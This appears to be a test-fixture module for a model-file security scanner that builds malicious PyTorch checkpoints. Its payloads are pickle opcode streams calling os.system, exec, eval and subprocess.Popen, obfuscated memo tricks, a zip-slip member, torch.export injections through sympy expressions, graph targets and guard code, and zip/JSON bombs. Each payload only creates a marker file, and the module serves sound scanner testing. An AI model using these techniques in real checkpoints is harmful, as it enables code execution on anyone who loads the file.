"""Builders of malicious checkpoints, made at test time (never stored in the repository).

Each builder writes one file into ``directory`` whose payload, if the file were ever unpickled
the unsafe way, would create ``marker``; tests assert the marker never appears. Payloads are
written opcode by opcode where the exact encoding matters (protocol 0 ``INST``, memo tricks),
otherwise with ``pickle``/``torch.save`` of an object whose ``__reduce__`` calls the payload.

``MALICIOUS_BUILDERS`` maps a name to ``builder(directory, marker) -> path``;
``EXPECTED_FINDINGS`` maps the same name to ``(member, fragment)``: the member the scanner must
name (the file's own name for non-archives, ``outer!/inner`` inside nested zips) and a fragment
of one of the ``globals`` flagged there (a ``module.name`` global, or a piece of the offending
operator/expression/guard of an exported program's graph).
"""

from __future__ import annotations

import base64
import io
import json
import os
import pickle
import random
import shlex
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from torch import nn

__all__ = [
    "EXPECTED_FINDINGS",
    "MALICIOUS_BUILDERS",
    "build_clean_legacy_tar",
    "build_json_bomb_pt2",
    "build_many_member_zip",
    "build_small_pt2",
    "rewrite_zip",
]

Builder = Callable[[Path, Path], Path]


# -- payload pieces ------------------------------------------------------------------------


def _touch_command(marker: Path) -> str:
    return f"touch {shlex.quote(str(marker))}"


def _touch_code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def _unicode(text: str) -> bytes:
    data = text.encode()
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def _short_unicode(text: str) -> bytes:
    data = text.encode()
    return pickle.SHORT_BINUNICODE + bytes([len(data)]) + data


def _global(module: str, name: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def _call(module: str, name: str, *args: str, protocol: int = 2) -> bytes:
    """Pickle that calls ``module.name(*args)`` with a GLOBAL opcode."""
    return (
        pickle.PROTO
        + bytes([protocol])
        + _global(module, name)
        + pickle.MARK
        + b"".join(_unicode(arg) for arg in args)
        + pickle.TUPLE
        + pickle.REDUCE
        + pickle.STOP
    )


class _Reduce:
    """Pickles as a call of ``function(*args)`` (what a malicious ``__reduce__`` looks like)."""

    def __init__(self, function: Callable[..., Any], *args: Any) -> None:
        self.function = function
        self.args = args

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.function, self.args


def _system(marker: Path) -> _Reduce:
    return _Reduce(os.system, _touch_command(marker))


# -- containers ----------------------------------------------------------------------------


def rewrite_zip(source: Path, target: Path, replace: dict[str, bytes], *, stored: bool = True) -> Path:
    """Copy a zip archive member by member, replacing or adding members (name -> bytes)."""
    pending = dict(replace)
    compression = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w", compression) as rewritten:
        for info in original.infolist():
            data = pending.pop(info.filename, None)
            rewritten.writestr(info.filename, original.read(info) if data is None else data)
        for name, data in pending.items():
            rewritten.writestr(name, data)
    return target


class _TinyNet(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.fc = nn.Linear(4, 2)

    def forward(self, features: torch.Tensor) -> torch.Tensor:
        logits: torch.Tensor = self.fc(features)
        return logits


def build_small_pt2(path: Path, *, dynamic_batch: bool = False) -> Path:
    """A real ``torch.export.save`` archive of a tiny model (input ``(N, 4)``)."""
    dynamic_shapes = ({0: torch.export.Dim("batch")},) if dynamic_batch else None
    program = torch.export.export(_TinyNet().eval(), (torch.zeros(2, 4),), dynamic_shapes=dynamic_shapes)
    torch.export.save(program, path)
    return path


def _small_state_dict_zip(path: Path) -> Path:
    torch.save({"weight": torch.ones(2, 2)}, path)
    return path


def _pt2_root(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.namelist()[0].split("/", 1)[0]


def _tar_add(archive: tarfile.TarFile, name: str, data: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    archive.addfile(info, io.BytesIO(data))


def _persistent_pickle(obj: object, persistent: Callable[[object], object | None]) -> bytes:
    buffer = io.BytesIO()
    pickler = pickle.Pickler(buffer, protocol=2)
    pickler.persistent_id = persistent  # type: ignore[method-assign]
    pickler.dump(obj)
    return buffer.getvalue()


def _legacy_tar(path: Path, object_pickle: bytes) -> Path:
    """The pre-0.1.10 ``torch.save`` tar layout: ``sys_info``, ``pickle``, ``storages``, ``tensors``.

    One float32 storage of 4 elements viewed by one 2x2 tensor; ``object_pickle`` is the
    ``pickle`` member (persistent ids refer to tensor keys).
    """
    storage = struct.pack("<q", 4) + struct.pack("<4f", 1.0, 2.0, 3.0, 4.0)
    storages = (
        pickle.dumps(1, protocol=2)
        + pickle.dumps(("s0", "cpu", torch.FloatStorage), protocol=2)
        + storage
        + pickle.dumps([], protocol=2)
    )
    tensor_record = struct.pack("<i", 2) + b"\0" * 4 + struct.pack("<2q", 2, 2) + struct.pack("<2q", 2, 1)
    tensors = (
        pickle.dumps(1, protocol=2)
        + pickle.dumps(("t0", "s0", torch.FloatTensor), protocol=2)
        + tensor_record
        + struct.pack("<q", 0)
    )
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as archive:
        _tar_add(archive, "sys_info", pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2))
        _tar_add(archive, "pickle", object_pickle)
        _tar_add(archive, "storages", storages)
        _tar_add(archive, "tensors", tensors)
    return path


def build_clean_legacy_tar(path: Path) -> Path:
    """A clean legacy tar checkpoint: ``{"weight": <2x2 tensor>}``."""
    object_pickle = _persistent_pickle({"weight": "t0"}, lambda obj: obj if obj == "t0" else None)
    return _legacy_tar(path, object_pickle)


def build_json_bomb_pt2(
    path: Path, size: int, *, member: str = "models/model.json", declared_size: int | None = None
) -> Path:
    """A real pt2 archive whose ``member`` is a JSON bomb: ``[`` + ``{},`` repeated, then a random string.

    ``size`` uncompressed bytes, deflated: ``{},`` compresses a thousandfold, and the random (base64)
    tail of ``size // 100`` bytes keeps the compression ratio near 120, under the scan's limit of 200,
    as an attacker would. ``json.loads`` builds every ``{}`` before it fails on the tail. Written in
    chunks, so the test process never holds the JSON. ``declared_size`` rewrites the member's
    uncompressed-size fields (local header and central directory) to lie about it.
    """
    clean = build_small_pt2(path.with_name(f"{path.stem}_clean.pt2"))
    name = f"{_pt2_root(clean)}/{member}"
    tail = base64.b64encode(random.Random(0).randbytes(size // 100 * 3 // 4))
    count, rest = divmod(size - 1 - len(tail), len(b"{},"))
    with zipfile.ZipFile(clean) as original, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bomb:
        for info in original.infolist():
            if info.filename != name:
                bomb.writestr(info.filename, original.read(info))
                continue
            with bomb.open(name, "w") as stream:
                stream.write(b"[")
                for start in range(0, count, 2**18):
                    stream.write(b"{}," * min(2**18, count - start))
                stream.write(b" " * rest + tail)
    clean.unlink()
    if declared_size is not None:
        with zipfile.ZipFile(path) as archive:
            local = archive.getinfo(name).header_offset
        data = bytearray(path.read_bytes())
        central = data.rfind(name.encode()) - 46  # the name's last occurrence is in the central directory
        struct.pack_into("<I", data, local + 22, declared_size)  # local file header: uncompressed size
        struct.pack_into("<I", data, central + 24, declared_size)  # central directory: uncompressed size
        path.write_bytes(bytes(data))
    return path


def build_many_member_zip(path: Path, members: int, *, declared: int | None = None) -> Path:
    """A zip of ``members`` empty stored members, written record by record (``zipfile`` takes seconds).

    Its end record declares ``declared`` members (default: the truth), with ZIP64 end records when
    that does not fit 16 bits, as ``zipfile`` writes them; a smaller ``declared`` is a lying archive
    whose central directory still holds every member.
    """
    declared = members if declared is None else declared
    local = struct.Struct("<4s5H3L2H")
    central = struct.Struct("<4s6H3L5H2L")
    names = [f"many/{index:07d}".encode() for index in range(members)]
    with path.open("wb") as stream:
        offsets = []
        for name in names:
            offsets.append(stream.tell())
            stream.write(local.pack(b"PK\x03\x04", 20, 0, 0, 0, 0x21, 0, 0, 0, len(name), 0) + name)
        directory_offset = stream.tell()
        for name, offset in zip(names, offsets, strict=True):
            stream.write(central.pack(b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21, 0, 0, 0, len(name), 0, 0, 0, 0, 0, offset))
            stream.write(name)
        directory_size = stream.tell() - directory_offset
        if declared >= 0xFFFF:
            zip64_offset = stream.tell()
            zip64_end = (b"PK\x06\x06", 44, 45, 45, 0, 0, declared, declared, directory_size, directory_offset)
            stream.write(struct.pack("<4sQ2H2L4Q", *zip64_end))
            stream.write(struct.pack("<4sLQL", b"PK\x06\x07", 0, zip64_offset, 1))
        short = min(declared, 0xFFFF)
        stream.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, short, short, directory_size, directory_offset, 0))
    return path


# -- the builders --------------------------------------------------------------------------


def _os_system(directory: Path, marker: Path) -> Path:
    path = directory / "os_system.pkl"
    path.write_bytes(_call("os", "system", _touch_command(marker)))
    return path


def _posix_system_reduce(directory: Path, marker: Path) -> Path:
    path = directory / "posix_system.pt"
    path.write_bytes(pickle.dumps(_system(marker), protocol=4))  # STACK_GLOBAL 'posix' 'system'
    return path


def _builtins_exec(directory: Path, marker: Path) -> Path:
    path = directory / "builtins_exec.pth"
    path.write_bytes(_call("builtins", "exec", _touch_code(marker)))
    return path


def _builtins_eval_stack_global(directory: Path, marker: Path) -> Path:
    path = directory / "builtins_eval.bin"
    payload = (
        pickle.PROTO
        + b"\x04"
        + _short_unicode("builtins")
        + _short_unicode("eval")
        + pickle.STACK_GLOBAL
        + _unicode(_touch_code(marker))
        + pickle.TUPLE1
        + pickle.REDUCE
        + pickle.STOP
    )
    path.write_bytes(payload)
    return path


def _subprocess_popen(directory: Path, marker: Path) -> Path:
    path = directory / "subprocess_popen.pkl"
    payload = (
        pickle.PROTO
        + b"\x03"
        + _global("subprocess", "Popen")
        + pickle.EMPTY_LIST
        + pickle.MARK
        + _unicode("touch")
        + _unicode(str(marker))
        + pickle.APPENDS
        + pickle.TUPLE1
        + pickle.REDUCE
        + pickle.STOP
    )
    path.write_bytes(payload)
    return path


def _runpy_run_code(directory: Path, marker: Path) -> Path:
    path = directory / "runpy_run_code.pkl"
    payload = (
        pickle.PROTO
        + b"\x02"
        + _global("runpy", "_run_code")
        + pickle.MARK
        + _unicode(_touch_code(marker))
        + pickle.EMPTY_DICT
        + pickle.TUPLE
        + pickle.REDUCE
        + pickle.STOP
    )
    path.write_bytes(payload)
    return path


def _inst_protocol_0(directory: Path, marker: Path) -> Path:
    path = directory / "inst_protocol0.pkl"
    # Starts with MARK, not \x80: a protocol 0 pickle; detected as "unknown" and walked leniently.
    path.write_bytes(b"(S" + repr(_touch_command(marker)).encode() + b"\nios\nsystem\n.")
    return path


def _memo_obfuscated_stack_global(directory: Path, marker: Path) -> Path:
    path = directory / "memo_obfuscated.pkl"
    payload = (
        pickle.PROTO
        + b"\x04"
        + _short_unicode("builtins")
        + pickle.MEMOIZE  # memo[0] = "builtins"
        + pickle.POP
        + _short_unicode("collections")  # a harmless-looking pair right before STACK_GLOBAL
        + pickle.BINPUT
        + b"\x07"
        + pickle.POP
        + _short_unicode("exec")
        + pickle.LONG_BINPUT
        + struct.pack("<I", 9)  # memo[9] = "exec"
        + pickle.POP
        + _short_unicode("OrderedDict")
        + pickle.POP
        + pickle.BINGET
        + b"\x00"
        + pickle.LONG_BINGET
        + struct.pack("<I", 9)
        + pickle.STACK_GLOBAL
        + _unicode(_touch_code(marker))
        + pickle.TUPLE1
        + pickle.REDUCE
        + pickle.STOP
    )
    path.write_bytes(payload)
    return path


def _truncated_after_reduce(directory: Path, marker: Path) -> Path:
    path = directory / "truncated.pkl"
    # pickle.loads runs os.system at REDUCE and only then fails on the garbage.
    path.write_bytes(_call("os", "system", _touch_command(marker))[:-1] + b"\xff\xfe")
    return path


def _torch_zip_data_pkl(directory: Path, marker: Path) -> Path:
    clean = _small_state_dict_zip(directory / "clean_for_zip.pt")
    path = rewrite_zip(
        clean, directory / "zip_data_pkl.pt", {"clean_for_zip/data.pkl": pickle.dumps(_system(marker), 2)}
    )
    clean.unlink()
    return path


def _torch_save_reduce_object(directory: Path, marker: Path) -> Path:
    path = directory / "reduce_object.pt"
    torch.save(_system(marker), path)
    return path


def _legacy_torch_save(directory: Path, marker: Path) -> Path:
    path = directory / "legacy.pt"
    torch.save({"model": _Reduce(exec, _touch_code(marker))}, path, _use_new_zipfile_serialization=False)
    return path


def _legacy_tar_payload(directory: Path, marker: Path) -> Path:
    return _legacy_tar(directory / "legacy_tar.pt", _call("builtins", "exec", _touch_code(marker)))


def _nested_zip(directory: Path, marker: Path) -> Path:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("inner/data.pkl", _call("os", "system", _touch_command(marker)))
    clean = _small_state_dict_zip(directory / "nested.pt")
    path = rewrite_zip(clean, directory / "nested_zip.pt", {"nested/extra/inner.zip": inner.getvalue()})
    clean.unlink()
    return path


def _zip_slip_member(directory: Path, marker: Path) -> Path:
    clean = _small_state_dict_zip(directory / "slip.pt")
    path = rewrite_zip(
        clean, directory / "zip_slip.pt", {"../../evil.pkl": _call("os", "system", _touch_command(marker))}
    )
    clean.unlink()
    return path


def _pt2_pickled_weight(directory: Path, marker: Path) -> Path:
    """torch.export.load reads ``use_pickle`` weights with ``torch.load(weights_only=False)``."""
    clean = build_small_pt2(directory / "pt2_weight.pt2")
    root = _pt2_root(clean)
    with zipfile.ZipFile(clean) as archive:
        config = json.loads(archive.read(f"{root}/data/weights/model_weights_config.json"))
    victim = next(iter(config["config"].values()))
    victim["use_pickle"] = True
    path = rewrite_zip(
        clean,
        directory / "pt2_pickled_weight.pt2",
        {
            f"{root}/data/weights/model_weights_config.json": json.dumps(config).encode(),
            f"{root}/data/weights/{victim['path_name']}": pickle.dumps(_system(marker), protocol=2),
        },
    )
    clean.unlink()
    return path


def _pt2_sample_inputs(directory: Path, marker: Path) -> Path:
    """Sample inputs are a nested torch.save zip; a weights-only failure falls back to full unpickling."""
    clean = build_small_pt2(directory / "pt2_inputs.pt2")
    root = _pt2_root(clean)
    inner_path = directory / "sample_inputs.pt"
    torch.save(((torch.zeros(2, 4),), {}), inner_path)
    inner_root = _pt2_root(inner_path)
    evil_inputs = directory / "evil_inputs.pt"
    rewrite_zip(inner_path, evil_inputs, {f"{inner_root}/data.pkl": pickle.dumps(_system(marker), protocol=2)})
    path = rewrite_zip(
        clean, directory / "pt2_sample_inputs.pt2", {f"{root}/data/sample_inputs/model.pt": evil_inputs.read_bytes()}
    )
    for leftover in (clean, inner_path, evil_inputs):
        leftover.unlink()
    return path


def _pt2_opaque_object(directory: Path, marker: Path) -> Path:
    """Opaque constants are read with ``pickle.loads``: a protocol 0 pickle needs no ``\\x80``."""
    clean = build_small_pt2(directory / "pt2_opaque.pt2")
    root = _pt2_root(clean)
    config_name = f"{root}/data/constants/model_constants_config.json"
    with zipfile.ZipFile(clean) as archive:
        config = json.loads(archive.read(config_name))
    config["config"]["evil"] = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
    protocol_0 = b"cposix\nsystem\n(S" + repr(_touch_command(marker)).encode() + b"\ntR."
    path = rewrite_zip(
        clean,
        directory / "pt2_opaque_object.pt2",
        {config_name: json.dumps(config).encode(), f"{root}/data/constants/opaque_obj_0": protocol_0},
    )
    clean.unlink()
    return path


def _edit_pt2_program(clean: Path, target: Path, edit: Callable[[dict[str, Any]], None]) -> Path:
    """Rewrite ``models/model.json`` (the serialized graph) of a pt2 archive."""
    name = f"{_pt2_root(clean)}/models/model.json"
    with zipfile.ZipFile(clean) as archive:
        program = json.loads(archive.read(name))
    edit(program)
    rewrite_zip(clean, target, {name: json.dumps(program).encode()})
    clean.unlink()
    return target


def _pt2_sympy_expression(directory: Path, marker: Path) -> Path:
    """torch.export.load parses symbolic shapes with sympy.sympify, which evaluates Python."""

    def edit(program: dict[str, Any]) -> None:
        for value in program["graph_module"]["graph"]["tensor_values"].values():
            for size in value["sizes"]:
                if "as_expr" in size:
                    expression = size["as_expr"]["expr_str"]
                    size["as_expr"]["expr_str"] = (
                        f"{expression} + 0*__import__('os').system({_touch_command(marker)!r})"
                    )
                    return

    clean = build_small_pt2(directory / "pt2_sympy.pt2", dynamic_batch=True)
    return _edit_pt2_program(clean, directory / "pt2_sympy_expression.pt2", edit)


def _pt2_graph_target(directory: Path, marker: Path) -> Path:
    """Graph targets resolve by getattr from torch: ``torch.os.system`` is os.system, called at forward."""

    def edit(program: dict[str, Any]) -> None:
        node = program["graph_module"]["graph"]["nodes"][0]
        node["target"] = "torch.os.system"
        node["inputs"] = [{"name": "command", "arg": {"as_string": _touch_command(marker)}, "kind": 1}]

    clean = build_small_pt2(directory / "pt2_target.pt2")
    return _edit_pt2_program(clean, directory / "pt2_graph_target.pt2", edit)


def _pt2_guard_code(directory: Path, marker: Path) -> Path:
    """ExportedProgram.module() compiles ``guards_code`` into Python that runs on every call."""

    def edit(program: dict[str, Any]) -> None:
        program["guards_code"] = [f"__import__('os').system({_touch_command(marker)!r}) == 0"]

    clean = build_small_pt2(directory / "pt2_guards.pt2")
    return _edit_pt2_program(clean, directory / "pt2_guard_code.pt2", edit)


def _pt2_program_without_json_suffix(directory: Path, marker: Path) -> Path:
    """torch.export.load deserializes every member under ``models/``: ``models/model.jsox`` is program ``model``."""
    evil = _pt2_sympy_expression(directory, marker)
    root = _pt2_root(evil)
    path = directory / "pt2_program_suffix.pt2"
    with zipfile.ZipFile(evil) as original, zipfile.ZipFile(path, "w") as renamed:
        for info in original.infolist():
            renamed.writestr(
                info.filename.replace(f"{root}/models/model.json", f"{root}/models/model.jsox"), original.read(info)
            )
    evil.unlink()
    return path


MALICIOUS_BUILDERS: dict[str, Builder] = {
    "os_system": _os_system,
    "posix_system_reduce": _posix_system_reduce,
    "builtins_exec": _builtins_exec,
    "builtins_eval_stack_global": _builtins_eval_stack_global,
    "subprocess_popen": _subprocess_popen,
    "runpy_run_code": _runpy_run_code,
    "inst_protocol_0": _inst_protocol_0,
    "memo_obfuscated_stack_global": _memo_obfuscated_stack_global,
    "truncated_after_reduce": _truncated_after_reduce,
    "torch_zip_data_pkl": _torch_zip_data_pkl,
    "torch_save_reduce_object": _torch_save_reduce_object,
    "legacy_torch_save": _legacy_torch_save,
    "legacy_tar": _legacy_tar_payload,
    "nested_zip": _nested_zip,
    "zip_slip_member": _zip_slip_member,
    "pt2_pickled_weight": _pt2_pickled_weight,
    "pt2_sample_inputs": _pt2_sample_inputs,
    "pt2_opaque_object": _pt2_opaque_object,
    "pt2_sympy_expression": _pt2_sympy_expression,
    "pt2_graph_target": _pt2_graph_target,
    "pt2_guard_code": _pt2_guard_code,
    "pt2_program_without_json_suffix": _pt2_program_without_json_suffix,
}

EXPECTED_FINDINGS: dict[str, tuple[str, str]] = {
    "os_system": ("os_system.pkl", "os.system"),
    "posix_system_reduce": ("posix_system.pt", "posix.system"),
    "builtins_exec": ("builtins_exec.pth", "builtins.exec"),
    "builtins_eval_stack_global": ("builtins_eval.bin", "builtins.eval"),
    "subprocess_popen": ("subprocess_popen.pkl", "subprocess.Popen"),
    "runpy_run_code": ("runpy_run_code.pkl", "runpy._run_code"),
    "inst_protocol_0": ("inst_protocol0.pkl", "os.system"),
    "memo_obfuscated_stack_global": ("memo_obfuscated.pkl", "builtins.exec"),
    "truncated_after_reduce": ("truncated.pkl", "os.system"),
    "torch_zip_data_pkl": ("clean_for_zip/data.pkl", "posix.system"),
    "torch_save_reduce_object": ("reduce_object/data.pkl", "posix.system"),
    "legacy_torch_save": ("legacy.pt", "builtins.exec"),
    "legacy_tar": ("pickle", "builtins.exec"),
    "nested_zip": ("nested/extra/inner.zip!/inner/data.pkl", "os.system"),
    "zip_slip_member": ("../../evil.pkl", "os.system"),
    "pt2_pickled_weight": ("pt2_weight/data/weights/weight_0", "posix.system"),
    "pt2_sample_inputs": ("pt2_inputs/data/sample_inputs/model.pt!/sample_inputs/data.pkl", "posix.system"),
    "pt2_opaque_object": ("pt2_opaque/data/constants/opaque_obj_0", "posix.system"),
    "pt2_sympy_expression": ("pt2_sympy/models/model.json", "__import__('os').system"),
    "pt2_graph_target": ("pt2_target/models/model.json", "'torch.os.system'"),
    "pt2_guard_code": ("pt2_guards/models/model.json", "__import__('os').system"),
    "pt2_program_without_json_suffix": ("pt2_sympy/models/model.jsox", "__import__('os').system"),
}
